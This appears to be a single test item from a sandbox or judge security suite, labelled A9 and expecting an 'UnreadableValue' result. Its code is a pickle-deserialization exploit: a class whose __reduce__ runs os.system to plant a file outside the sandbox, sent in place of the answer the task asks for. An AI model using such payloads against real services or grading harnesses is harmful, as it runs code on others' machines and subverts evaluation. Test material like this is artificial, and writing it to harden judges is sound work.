# number = "A9"
# tries = "sends a pickle where the judge reads a frame"
# says = 'UnreadableValue'
inside_the_sandbox()

import os
import pickle

class Payload:
    def __reduce__(self):
        return (os.system, (f"touch {OUTSIDE['files']['planted']}",))

def dot(x, y):
    say(pickle.dumps(Payload()) * 10)
